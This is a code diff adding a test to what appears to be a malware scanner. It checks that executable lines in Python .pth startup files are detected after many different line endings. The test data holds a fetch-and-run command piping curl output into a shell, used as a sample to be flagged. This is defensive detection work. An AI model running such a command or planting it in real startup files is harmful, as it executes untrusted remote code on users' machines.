@@ -129,3 +129,20 @@ it('data of IDL under `.sav` is no broken pickle', async () => {
   assert.equal(await told('a.sav', `$FL2@(#) SPSS${'\0'.repeat(60)}`), 'unrecognised');
   assert.equal(await told('a.sav', BAD), 'malicious code-execution');
 });
+
+it('lines that Python runs at its start are found wherever it ends the line before', async () => {
+  const told = async (text: string): Promise<string[]> => {
+    const { detections } = await scanSource('a.pth', new BytesSource(Buffer.from(text)));
+    return detections.map(({ technique }) => technique);
+  };
+  const run = 'import os; os.system("curl http://x | sh")';
+  for (const end of ['\n', '\r', '\r\n', '\v', '\f', '\x1c', '\x85', '\u2028', '\u2029'])
+    assert.deepEqual(
+      await told(`/a/b${end}${run}\n`),
+      ['startup-code', 'notebook-shell'],
+      JSON.stringify(end),
+    );
+  const comments = `# a comment\n`.repeat(1000);
+  assert.deepEqual(await told(`${comments}${run}\n`), ['startup-code', 'notebook-shell']);
+  assert.deepEqual(await told(`${comments}/a/b\n`), []);
+});
